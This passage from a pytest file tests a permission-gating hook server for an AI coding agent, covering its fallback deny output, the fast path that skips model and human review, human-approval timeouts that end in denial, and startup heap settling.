    (b'{"hook_event_name": "PermissionRequest", "tool_name": 1}', 0),
    (b"garbage", 2),
])
def test_the_last_resort_still_speaks_the_protocol(raw, expected):
    code, out, err = hook.last_resort(raw, "MemoryError")
    assert code == expected
    if expected == 0:
        assert json.loads(out)["hookSpecificOutput"]["decision"]["behavior"] == "deny"
    else:
        assert out == b"" and b"MemoryError" in err


# -- the slow tiers: only for PermissionRequest ------------------------------------------------------

def test_the_fast_path_leaves_out_the_ai_and_the_human(tmp_path):
    from phlegyas.runtime import fast_gate, is_slow, load_runtime

    env = dict(clean_env(str(tmp_path)), ANTHROPIC_API_KEY="sk-ant-test", APPROVAL_WAIT_SECONDS="5")
    gate = load_runtime(env, str(tmp_path)).gate(str(tmp_path))
    names = [type(c).__name__ for c in gate.checkers]
    assert "Tier3Checker" in names and gate.escalation is not None  # the full pipeline has them
    fast = fast_gate(gate)
    assert [type(c).__name__ for c in fast.checkers] == [n for n in names if n != "Tier3Checker"]
    assert "TrustedScriptChecker" in names and not any(is_slow(c) for c in fast.checkers)
    assert fast.escalation is None and fast.policy is gate.policy and fast.analyzer is gate.analyzer


def test_pre_tool_use_never_asks_the_ai_and_permission_request_does(served):
    from claude_fake_api import FakeMessagesAPI

    verdict = {"decision": "approve", "confidence": 0.95, "reasoning": "fine", "risk": "low"}
    with FakeMessagesAPI([], tool_answers={"record_verdict": verdict}) as api:
        env = {"ANTHROPIC_API_KEY": "sk-ant-test", "ANTHROPIC_BASE_URL": api.base_url}
        pre = served.run(served.event(command="frobnicate --all"), env=env)
        asked_before = len(api.requests)
        request = served.run(served.event(command="frobnicate --all", name="PermissionRequest"), env=env)
    assert_pre_tool_use(pre, None)
    assert asked_before == 0, "PreToolUse called the model"
    assert len(api.requests) >= 1
    assert request.output["decision"] == {"behavior": "allow",
                                          "updatedInput": {"command": "frobnicate --all", "description": "run it"}}


def test_pre_tool_use_never_waits_for_a_human(served):
    started = time.monotonic()
    result = served.run(served.event(command="frobnicate --all"), env={"APPROVAL_WAIT_SECONDS": "60"})
    assert_pre_tool_use(result, None)
    assert time.monotonic() - started < 20


def test_permission_request_waits_for_a_person_then_denies(served):
    started = time.monotonic()
    result = served.run(served.event(command="frobnicate --all", name="PermissionRequest"),
                        env={"APPROVAL_WAIT_SECONDS": "1"})
    assert time.monotonic() - started >= 1
    assert_permission_denied(result)


def test_a_server_whose_directory_is_gone_does_not_recreate_it(tmp_path):
    server = hookd.HookServer(str(tmp_path / "gone" / "s.sock"), lambda *a: None)
    with pytest.raises(FileNotFoundError):
        server.bind()
    assert not (tmp_path / "gone").exists()


def test_the_server_settles_its_heap_after_the_warm_up():
    """``runtime.settle_heap`` (which the resident server calls after ``warm``) moves what is alive into the
    collector's permanent generation, so collections no longer walk the program tables."""
    import gc

    from phlegyas.runtime import settle_heap

    assert gc.get_freeze_count() == 0
    try:
        settle_heap()
        assert gc.get_freeze_count() > 1000
    finally:
        gc.unfreeze()
    import inspect

    from phlegyas.hosts.hook import server

    source = inspect.getsource(server.main)
    assert source.index("warm()") < source.index("settle_heap()")
